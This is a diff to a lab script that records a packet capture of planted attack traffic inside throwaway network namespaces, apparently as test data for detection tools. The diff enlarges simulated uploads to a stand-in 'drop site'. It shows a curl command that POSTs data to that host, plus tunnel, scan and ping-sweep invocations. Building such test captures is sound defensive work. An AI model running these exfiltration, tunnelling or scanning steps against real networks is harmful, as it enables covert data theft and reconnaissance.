@@ -11,8 +11,8 @@
 # Planted: an HTTP beacon (3 s, ±40 %), two beacons from one host behind the CDN address told
 # apart by Host (4 s -20 %, 5 s ±20 %) among browsing of that address by two hosts, an
 # iodine-style (base32, TXT) and a dnscat2-style (hex, CNAME/MX/TXT) tunnel, a connect scan
-# (120 ports), a UDP scan (80 ports), a ping sweep (70 addresses), a 1.5 MB POST and a
-# 1.2 MB chunked PUT to a drop site.  Benign: browsing and a 200 kB upload to the web server.
+# (120 ports), a UDP scan (80 ports), a ping sweep (70 addresses), a 2 MB POST and a
+# 1.6 MB chunked PUT to a drop site.  Benign: browsing and a 200 kB upload to the web server.
 # Only addresses inside the namespaces are used; the namespaces are deleted on exit.
 set -euo pipefail
 OUTF=${1:?usage: record.sh OUT.pcap}
@@ -94,8 +94,8 @@ lab 13 22 tunnel 198.51.100.53 c.lab-cat.test dnscat2 120 8
 lab 14 23 scan 203.0.113.60 1 120
 lab 14 24 udpscan 203.0.113.60 2000 2079
 lab 14 25 pingsweep 203.0.113 100 169
-head -c 1500000 /dev/urandom > "$WORK/post.bin"
-head -c 1200000 /dev/urandom > "$WORK/put.bin"
+head -c 2000000 /dev/urandom > "$WORK/post.bin"
+head -c 1600000 /dev/urandom > "$WORK/put.bin"
 head -c 200000 /dev/urandom > "$WORK/small.bin"
 inC curl -s -o /dev/null --interface 10.77.1.15 --resolve files.lab-drop.test:80:203.0.113.52 \
     --data-binary @"$WORK/post.bin" http://files.lab-drop.test/upload
